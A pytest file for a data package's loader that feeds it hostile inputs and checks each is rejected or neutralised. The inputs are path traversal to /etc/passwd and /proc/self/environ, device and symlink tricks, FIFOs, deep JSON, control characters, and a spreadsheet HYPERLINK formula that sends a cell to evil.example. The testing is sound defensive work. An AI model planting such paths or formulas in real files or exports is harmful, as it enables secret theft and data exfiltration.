"""Hostile input (issue 13, items 5 and 6): every bad data file is a listed problem.

Each case breaks the small valid ``mini_data`` directory one way and asserts the exact
``file:line: column: message`` that ``so.load()`` reports, and that nothing but
:class:`~sting_outcomes.DataValidationError` escapes it. Resource paths that leave the data
folder, devices, FIFOs, directories and symlink loops are refused without being read.
``test_cli_exits_1_without_a_traceback`` runs ``sting-outcomes validate`` once per class.
"""

from __future__ import annotations

import json
import math
import os
import shutil
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest

import sting_outcomes as so
from conftest import set_cell
from sting_outcomes.data.digest import MAX_FILE_BYTES, data_digest, read_snapshot, shown_path
from sting_outcomes.data.export import safe_csv_text, to_safe_csv
from sting_outcomes.data.validate import MAX_NUMBER

CLI = Path(sys.executable).with_name("sting-outcomes")
NOT_A_NUMBER = (
    "is not a number (write a plain decimal: ASCII digits 0-9 and an optional '.' with decimals; "
    "no exponent, sign '+', separators or other digits)"
)
CONTROL = "cells hold single-line text without control characters"
SECRET = "planted-token-3f9c1d"


def where(data: Path, name: str) -> str:
    """A data file as messages name it."""
    return shown_path(data.resolve() / name)


def problems(data: Path) -> list[str]:
    """Every problem ``so.load(data)`` reports; fails on any other exception or none."""
    try:
        so.load(data)
    except so.DataValidationError as exc:
        assert "Traceback" not in str(exc)
        return [str(p) for p in exc.problems]
    except BaseException as exc:  # the point: nothing else escapes
        pytest.fail(f"{type(exc).__name__} escaped so.load(): {exc}")
    pytest.fail("so.load() accepted hostile data")


def resource_index(data: Path, name: str) -> int:
    package = json.loads((data / "datapackage.json").read_text(encoding="utf-8"))
    return [r["name"] for r in package["resources"]].index(name)


def set_resource_path(data: Path, name: str, path: object) -> None:
    package = json.loads((data / "datapackage.json").read_text(encoding="utf-8"))
    for resource in package["resources"]:
        if resource["name"] == name:
            resource["path"] = path
    (data / "datapackage.json").write_text(json.dumps(package, indent=1), encoding="utf-8")


def replace_with(data: Path, name: str, make: Callable[[Path], None]) -> None:
    (data / name).unlink()
    make(data / name)


def header_only(data: Path, name: str) -> None:
    header = (data / name).read_text(encoding="utf-8").splitlines()[0]
    (data / name).write_text(header + "\n", encoding="utf-8")


def symlink_loop(path: Path) -> None:
    other = path.with_name("loop.csv")
    os.symlink(other.name, path)
    os.symlink(path.name, other)


# (id, break the data, expected problem; {pkg}, {figures}, … name files, {fig} the figures
# resource's index in datapackage.json)
CASES: list[tuple[str, Callable[[Path], None], str]] = [
    (
        "path-escape",
        lambda d: set_resource_path(d, "figures", "../../../../etc/passwd"),
        "{pkg}: resources[{fig}].path: '../../../../etc/passwd' leaves the data folder ('..' is not allowed)",
    ),
    (
        "proc-environ",
        lambda d: set_resource_path(d, "figures", "/proc/self/environ"),
        "{pkg}: resources[{fig}].path: '/proc/self/environ' is an absolute path; give a path relative to the "
        "data folder",
    ),
    (
        "dev-zero",
        lambda d: set_resource_path(d, "figures", "/dev/zero"),
        "{pkg}: resources[{fig}].path: '/dev/zero' is an absolute path; give a path relative to the data folder",
    ),
    (
        "symlink-to-dev-zero",
        lambda d: replace_with(d, "figures.csv", lambda p: os.symlink("/dev/zero", p)),
        "{pkg}: resources[{fig}].path: 'figures.csv' leads outside the data folder (a symlink to /dev/zero)",
    ),
    (
        "symlink-out-of-the-folder",
        lambda d: replace_with(d, "figures.csv", lambda p: os.symlink("/etc/passwd", p)),
        "{pkg}: resources[{fig}].path: 'figures.csv' leads outside the data folder (a symlink to /etc/passwd)",
    ),
    (
        "fifo",
        lambda d: replace_with(d, "figures.csv", os.mkfifo),
        "{pkg}: resources[{fig}].path: 'figures.csv' is a FIFO (named pipe), not a regular file",
    ),
    (
        "directory",
        lambda d: replace_with(d, "figures.csv", Path.mkdir),
        "{pkg}: resources[{fig}].path: 'figures.csv' is a directory, not a regular file",
    ),
    (
        "symlink-loop",
        lambda d: replace_with(d, "figures.csv", symlink_loop),
        "{pkg}: resources[{fig}].path: 'figures.csv' is a symlink loop",
    ),
    (
        "url-path",
        lambda d: set_resource_path(d, "figures", "https://example.org/figures.csv"),
        "{pkg}: resources[{fig}].path: 'https://example.org/figures.csv' is a URL; only files inside the data "
        "folder are read",
    ),
    (
        "path-not-text",
        lambda d: set_resource_path(d, "figures", ["figures.csv"]),
        "{pkg}: resources[{fig}].path: must be a file name relative to the data folder, given as text (got list)",
    ),
    (
        "json-syntax",
        lambda d: (d / "datapackage.json").write_text('{"resources": [\n  {oops}\n]}', encoding="utf-8"),
        "{pkg}:2: not valid JSON (Expecting property name enclosed in double quotes, column 4)",
    ),
    (
        "json-not-an-object",
        lambda d: (d / "datapackage.json").write_text("[1, 2]", encoding="utf-8"),
        "{pkg}: must be a JSON object, not a list",
    ),
    (
        "json-no-resources",
        lambda d: (d / "datapackage.json").write_text('{"name": "x"}', encoding="utf-8"),
        "{pkg}: resources: is missing",
    ),
    (
        "json-nan",
        lambda d: (d / "datapackage.json").write_text('{"resources": NaN}', encoding="utf-8"),
        "{pkg}: not valid JSON (NaN is not a JSON value)",
    ),
    (
        "json-deep",
        lambda d: (d / "datapackage.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8"),
        "{pkg}: not valid JSON (nested too deeply)",
    ),
    (
        "json-no-schema",
        lambda d: _edit_package(d, lambda p: p["resources"][2].pop("schema")),
        "{pkg}: resources[2].schema: is missing",
    ),
    (
        "json-unknown-type",
        lambda d: _edit_package(d, lambda p: p["resources"][2]["schema"]["fields"][6].update(type="integer")),
        "{pkg}: resources[2].schema.fields[6].type: 'integer' is not supported (supported: string, number, boolean)",
    ),
    (
        "json-bad-pattern",
        lambda d: _edit_package(
            d, lambda p: p["resources"][2]["schema"]["fields"][0]["constraints"].update(pattern="([a-z")
        ),
        "{pkg}: resources[2].schema.fields[0].constraints.pattern: is not a valid regular expression "
        "(unterminated character set at position 1)",
    ),
    (
        "json-dropped-field",
        lambda d: _edit_package(d, lambda p: p["resources"][2]["schema"]["fields"].pop(6)),
        "{pkg}: resources[2].schema.fields: needs a field 'value' of type number (the code reads it)",
    ),
    (
        "json-missing-resource",
        lambda d: _edit_package(d, lambda p: p["resources"].pop(4)),
        "{pkg}: resources: no resource named 'units' (needed: operations, sources, figures, metrics, units, "
        "categories)",
    ),
    ("arabic-indic-digits", lambda d: set_cell(d / "figures.csv", 0, "value", "١٢٣"), "{figures}:2: value: '١٢٣' "),
    ("fullwidth-digits", lambda d: set_cell(d / "figures.csv", 0, "value", "１２３"), "{figures}:2: value: '１２３' "),
    ("underscore", lambda d: set_cell(d / "figures.csv", 0, "value", "1_000"), "{figures}:2: value: '1_000' "),
    ("thousands-comma", lambda d: set_cell(d / "figures.csv", 0, "value", "1,000"), "{figures}:2: value: '1,000' "),
    ("exponent", lambda d: set_cell(d / "figures.csv", 0, "value", "1e5"), "{figures}:2: value: '1e5' "),
    (
        "exponent-overflow",
        lambda d: set_cell(d / "figures.csv", 2, "value", "1.7e308"),
        "{figures}:4: value: '1.7e308' ",
    ),
    ("infinity", lambda d: set_cell(d / "figures.csv", 0, "value", "inf"), "{figures}:2: value: 'inf' "),
    ("nan", lambda d: set_cell(d / "figures.csv", 0, "value", "NaN"), "{figures}:2: value: 'NaN' "),
    ("plus-sign", lambda d: set_cell(d / "figures.csv", 0, "value", "+5"), "{figures}:2: value: '+5' "),
    (
        "huge-decimal",
        lambda d: set_cell(d / "figures.csv", 2, "value_high", "17" + "0" * 307),
        "{figures}:4: value_high: " + "17" + "0" * 37 + "… is above the ceiling of 1e15 (MAX_NUMBER) for any number",
    ),
    (
        "just-over-the-ceiling",
        lambda d: set_cell(d / "figures.csv", 2, "value", "1000000000000001"),
        "{figures}:4: value: 1000000000000001 is above the ceiling of 1e15 (MAX_NUMBER) for any number",
    ),
    (
        "fullwidth-date",
        lambda d: set_cell(d / "figures.csv", 0, "as_of", "２０２１-06-08"),
        "{figures}:2: as_of: '２０２１-06-08' is not a date as YYYY-MM-DD or YYYY-MM",
    ),
    (
        "arabic-indic-date",
        lambda d: set_cell(d / "operations.csv", 0, "takedown_date", "٢٠٢١-٠٦-٠٨"),
        "{operations}:2: takedown_date: '٢٠٢١-٠٦-٠٨' is not a date as YYYY-MM-DD or YYYY-MM",
    ),
    (
        "date-with-trailing-newline",
        lambda d: set_cell(d / "sources.csv", 0, "published", "2021-06-08\n"),
        "{sources}:2: published: contains a line feed at character 11; " + CONTROL,
    ),
    ("empty-figures", lambda d: (d / "figures.csv").write_bytes(b""), "{figures}: " + "file is empty (0 bytes); "),
    ("empty-sources", lambda d: (d / "sources.csv").write_bytes(b""), "{sources}: " + "file is empty (0 bytes); "),
    ("empty-operations", lambda d: (d / "operations.csv").write_bytes(b""), "{operations}: file is empty (0 bytes); "),
    ("header-only-figures", lambda d: header_only(d, "figures.csv"), "{figures}: has a header line but no data rows"),
    ("header-only-sources", lambda d: header_only(d, "sources.csv"), "{sources}: has a header line but no data rows"),
    (
        "header-only-operations",
        lambda d: header_only(d, "operations.csv"),
        "{operations}: has a header line but no data rows",
    ),
    (
        "blank-header",
        lambda d: (d / "units.csv").write_text("\nkg,mass,kg,1,x\n", encoding="utf-8"),
        "{units}:1: line 1 is blank; expected the header line",
    ),
    (
        "nul",
        lambda d: set_cell(d / "figures.csv", 0, "note", "a\x00b"),
        "{figures}:2: note: contains NUL at character 2; " + CONTROL,
    ),
    (
        "line-separator",
        lambda d: set_cell(d / "figures.csv", 1, "locator", "table\u2028row 2"),
        "{figures}:3: locator: contains U+2028 (LINE SEPARATOR) at character 6; " + CONTROL,
    ),
    (
        "paragraph-separator",
        lambda d: set_cell(d / "sources.csv", 0, "title", "A\u2029B"),
        "{sources}:2: title: contains U+2029 (PARAGRAPH SEPARATOR) at character 2; " + CONTROL,
    ),
    (
        "nel",
        lambda d: set_cell(d / "operations.csv", 1, "summary", "One.\x85Two."),
        "{operations}:3: summary: contains NEL (next line) at character 5; " + CONTROL,
    ),
    (
        "vertical-tab",
        lambda d: set_cell(d / "figures.csv", 2, "note", "x\vy"),
        "{figures}:4: note: contains a vertical tab at character 2; " + CONTROL,
    ),
    (
        "tab",
        lambda d: set_cell(d / "figures.csv", 2, "locator", "\tsecond"),
        "{figures}:4: locator: contains a tab at character 1; " + CONTROL,
    ),
    (
        "bidi-override",
        lambda d: set_cell(d / "sources.csv", 1, "publisher", "Paper \u202eB"),
        "{sources}:3: publisher: contains U+202E (RIGHT-TO-LEFT OVERRIDE) at character 7; " + CONTROL,
    ),
    (
        "control-in-header",
        lambda d: (d / "categories.csv").write_text(
            (d / "categories.csv").read_text(encoding="utf-8").replace("description", "descr\x1biption", 1),
            encoding="utf-8",
        ),
        "{categories}:1: column name 'descr\\x1biption' contains ESC at character 6; " + CONTROL,
    ),
]


def _edit_package(data: Path, change: Callable[[dict], object]) -> None:
    package = json.loads((data / "datapackage.json").read_text(encoding="utf-8"))
    assert [r["name"] for r in package["resources"]][:6] == [
        "operations",
        "sources",
        "figures",
        "metrics",
        "units",
        "categories",
    ]
    change(package)
    (data / "datapackage.json").write_text(json.dumps(package, indent=1), encoding="utf-8")


def expected(data: Path, template: str) -> str:
    names = {n: where(data, f"{n}.csv") for n in ("figures", "sources", "operations", "units", "categories")}
    return template.format(pkg=where(data, "datapackage.json"), fig=2, **names)


@pytest.fixture
def alarm():
    """Fail instead of hanging (a FIFO that is opened for reading blocks forever)."""
    signal.signal(signal.SIGALRM, lambda *_: pytest.fail("timed out: a data file blocked the reader"))
    signal.alarm(10)
    yield
    signal.alarm(0)


@pytest.mark.parametrize(("case", "breaks", "template"), CASES, ids=[c[0] for c in CASES])
def test_hostile_input_is_one_listed_problem(mini_data: Path, alarm, monkeypatch, case, breaks, template) -> None:
    monkeypatch.setenv("STING_OUTCOMES_PLANTED", SECRET)
    breaks(mini_data)
    message = expected(mini_data, template)
    found = problems(mini_data)
    if message.endswith("(0 bytes); "):
        message += "expected a header line and data rows"
    elif message.endswith(" "):  # a number case: the rest of the message is NOT_A_NUMBER
        message += NOT_A_NUMBER
    assert message in found, "\n".join(found)
    text = "\n".join(found)
    assert SECRET not in text and "root:x:0:0" not in text  # nothing read from outside is echoed


def test_the_resource_index_is_the_figures_one(mini_data: Path) -> None:
    assert resource_index(mini_data, "figures") == 2


def test_a_refused_path_is_never_opened(mini_data: Path, monkeypatch) -> None:
    """Refused paths are decided from the name alone: ``os.open`` never sees them."""
    opened: list[str] = []
    real_open = os.open

    def spy(path, *args, **kwargs):
        opened.append(str(path))
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", spy)
    set_resource_path(mini_data, "figures", "../../../../etc/passwd")
    set_resource_path(mini_data, "sources", "/proc/self/environ")
    problems(mini_data)
    assert not [p for p in opened if "passwd" in p or "environ" in p], opened


def test_oversized_file_is_refused_unread(mini_data: Path) -> None:
    os.truncate(mini_data / "figures.csv", MAX_FILE_BYTES + 1)  # sparse: takes no disk space
    found = problems(mini_data)
    assert (
        f"{where(mini_data, 'datapackage.json')}: resources[2].path: 'figures.csv' is 52,428,801 bytes, "
        "over the limit of 52,428,800 (MAX_FILE_BYTES)"
    ) in found, found
    assert MAX_FILE_BYTES == 50 * 1024 * 1024


def test_missing_package_and_hash_before_validation_raise_listed_problems(mini_data: Path) -> None:
    """``data_digest`` (hashed before validation by the build) lists problems too."""
    (mini_data / "sources.csv").unlink()
    with pytest.raises(so.DataValidationError) as info:
        data_digest(mini_data)
    assert [str(p) for p in info.value.problems] == [f"{where(mini_data, 'sources.csv')}: file is missing"]
    (mini_data / "datapackage.json").unlink()
    assert problems(mini_data) == [f"{where(mini_data, 'datapackage.json')}: file is missing"]


def test_digest_is_unchanged_and_matches_the_loaded_version(mini_data: Path) -> None:
    import hashlib

    package = json.loads((mini_data / "datapackage.json").read_text(encoding="utf-8"))
    digest = hashlib.sha256()
    for name in ["datapackage.json", *(r["path"] for r in package["resources"])]:
        digest.update(name.encode() + b"\0" + (mini_data / name).read_bytes() + b"\0")
    assert data_digest(mini_data) == digest.hexdigest()
    assert so.load(mini_data).version == digest.hexdigest()[:12] == so.data_version(mini_data)


def test_snapshot_write_copies_exactly_what_was_read(mini_data: Path, tmp_path: Path) -> None:
    snap = read_snapshot(mini_data)
    copy = snap.write(tmp_path / "frozen")
    assert data_digest(copy) == snap.digest == data_digest(mini_data)


def test_a_symlink_inside_the_folder_is_followed(mini_data: Path) -> None:
    (mini_data / "tables").mkdir()
    shutil.move(mini_data / "figures.csv", mini_data / "tables" / "figures.csv")
    os.symlink("tables/figures.csv", mini_data / "figures.csv")
    assert len(so.load(mini_data).figures) == 3


def test_line_numbers_survive_separators_and_quoted_newlines(mini_data: Path) -> None:
    """str.splitlines would split at U+2028, NEL and \\v; the reader must not, and a quoted
    newline is reported where it is while later records keep their own lines."""
    set_cell(mini_data / "figures.csv", 0, "note", "one\ntwo")
    set_cell(mini_data / "figures.csv", 1, "note", "x\u2028y\x85z\vw")
    set_cell(mini_data / "figures.csv", 2, "note", "a\x00b")
    figures = where(mini_data, "figures.csv")
    assert problems(mini_data) == [
        f"{figures}:2: note: contains a line feed at character 4; {CONTROL}",
        f"{figures}:4: note: contains U+2028 (LINE SEPARATOR) at character 2; {CONTROL}",
        f"{figures}:5: note: contains NUL at character 2; {CONTROL}",
    ]


def test_every_problem_in_one_file_is_collected(mini_data: Path) -> None:
    set_cell(mini_data / "figures.csv", 0, "value", "１２３")
    set_cell(mini_data / "figures.csv", 1, "as_of", "٢٠٢١-06-08")
    set_cell(mini_data / "figures.csv", 2, "note", "\x00")
    figures = where(mini_data, "figures.csv")
    assert problems(mini_data) == [
        f"{figures}:2: value: '１２３' {NOT_A_NUMBER}",
        f"{figures}:3: as_of: '٢٠٢١-06-08' is not a date as YYYY-MM-DD or YYYY-MM",
        f"{figures}:4: note: contains NUL at character 1; {CONTROL}",
    ]


@pytest.mark.parametrize("zero", ["-0", "-0.0", "-0.000"])
def test_negative_zero_loads_as_zero(mini_data: Path, zero: str) -> None:
    set_cell(mini_data / "figures.csv", 0, "value", zero)
    set_cell(mini_data / "figures.csv", 2, "value", zero)
    ds = so.load(mini_data)
    for value in [*ds.figures["value"].iloc[[0, 2]], ds.normalized["value_std"].iloc[0]]:
        assert value == 0 and math.copysign(1.0, value) == 1.0


def test_the_ceiling_itself_is_allowed(mini_data: Path) -> None:
    set_cell(mini_data / "figures.csv", 0, "value", "1000000000000000")
    assert so.load(mini_data).figures["value"].iloc[0] == MAX_NUMBER


def test_formula_cells_load_but_export_neutralised(mini_data: Path, tmp_path: Path) -> None:
    """The data may quote a formula-like text; the downloadable CSV never hands it to a
    spreadsheet as a formula."""
    link = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    set_cell(mini_data / "figures.csv", 0, "locator", link)
    set_cell(mini_data / "figures.csv", 1, "note", "@SUM(A1:A9)")
    set_cell(mini_data / "sources.csv", 0, "title", "+1 555 0100")
    ds = so.load(mini_data)
    out = to_safe_csv(ds.normalized.sort_values("figure_id"), tmp_path / "figures_normalized.csv")
    rows = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert rows.loc[0, "locator"] == "'" + link
    assert rows.loc[1, "note"] == "'@SUM(A1:A9)"
    assert rows.loc[0, "value"] == "224.0"
    sources = safe_csv_text(ds.sources)
    assert "\n'+1 555 0100," not in sources and ",'+1 555 0100," in sources


def test_safe_csv_text_neutralises_text_columns_only() -> None:
    frame = pd.DataFrame(
        {
            "text": ["=1+1", "+1", "-5", "@cmd", "\tx", "\rx", "plain", None, "a=b"],
            "number": [-5.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, float("nan"), -0.5],
            "kind": pd.Categorical(["-x", "y", "y", "y", "y", "y", "y", "y", "=z"]),
            "count": pd.array([-1, 2, 3, 4, 5, 6, 7, None, 9], dtype="Int64"),
            "label": pd.array(["-a", "b", "c", "d", "e", "f", "g", None, "h"], dtype="string"),
        }
    )
    assert safe_csv_text(frame) == (
        "text,number,kind,count,label\n"
        "'=1+1,-5.0,'-x,-1,'-a\n"
        "'+1,1.0,y,2,b\n"
        "'-5,2.0,y,3,c\n"
        "'@cmd,3.0,y,4,d\n"
        "'\tx,4.0,y,5,e\n"
        '"\'\rx",5.0,y,6,f\n'
        "plain,6.0,y,7,g\n"
        ",,y,,\n"
        "a=b,-0.5,'=z,9,h\n"
    )
    assert frame.loc[0, "text"] == "=1+1"  # the caller's frame is left alone
    assert safe_csv_text(frame) == safe_csv_text(frame.copy())  # deterministic


def _break_for_cli(base: Path, tmp_path: Path) -> list[tuple[str, Path]]:
    """One data folder per class of hostile input, copied from ``base``."""
    classes = {
        "path-escape": "path-escape",
        "proc": "proc-environ",
        "dev-zero": "dev-zero",
        "device-symlink": "symlink-to-dev-zero",
        "fifo": "fifo",
        "directory": "directory",
        "symlink-loop": "symlink-loop",
        "malformed-json": "json-syntax",
        "json-shape": "json-no-schema",
        "unicode-digits": "fullwidth-digits",
        "unicode-date": "arabic-indic-date",
        "underscore": "underscore",
        "empty": "empty-figures",
        "header-only": "header-only-figures",
        "huge": "exponent-overflow",
        "nul": "nul",
        "separators": "line-separator",
    }
    by_id = {c[0]: c[1] for c in CASES}
    folders = []
    for label, case in classes.items():
        folder = tmp_path / "cli" / label
        shutil.copytree(base, folder, symlinks=True)
        by_id[case](folder)
        folders.append((label, folder))
    return folders


def test_cli_exits_1_without_a_traceback(mini_data: Path, tmp_path: Path) -> None:
    """``sting-outcomes validate --data DIR`` once per class of hostile input, in parallel."""
    env = {**os.environ, "STING_OUTCOMES_PLANTED": SECRET}
    running = [
        (
            label,
            subprocess.Popen(
                [str(CLI), "validate", "--data", str(folder)],
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
                env=env,
            ),
        )
        for label, folder in _break_for_cli(mini_data, tmp_path)
    ]
    failures = []
    for label, proc in running:
        out, err = proc.communicate(timeout=60)
        if proc.returncode != 1 or "Traceback" in err or SECRET in err + out or "problem" not in err:
            failures.append(f"{label}: exit {proc.returncode}\n{err[-2000:]}")
    assert not failures, "\n".join(failures)


def test_real_data_exports_without_formula_cells() -> None:
    """The real data pass the stricter rules, and in their exports no text cell starts
    with a formula character (one real title does: '+++ Ergänzung …')."""
    import csv
    import io

    ds = so.load()
    for frame in (ds.normalized.sort_values("figure_id"), ds.sources):
        rows = list(csv.reader(io.StringIO(safe_csv_text(frame), newline="")))
        assert len(rows) == len(frame) + 1 and rows[0] == [str(c) for c in frame.columns]
        text = [i for i, c in enumerate(frame.columns) if frame[c].dtype.kind not in "fiubM"]
        assert not [r[i] for r in rows[1:] for i in text if r[i].startswith(("=", "+", "-", "@", "\t", "\r"))]
        numbers = [i for i, c in enumerate(frame.columns) if frame[c].dtype.kind == "f"]
        for i in numbers:
            assert [float(r[i]) if r[i] else None for r in rows[1:]] == [
                None if pd.isna(v) else v for v in frame.iloc[:, i]
            ]
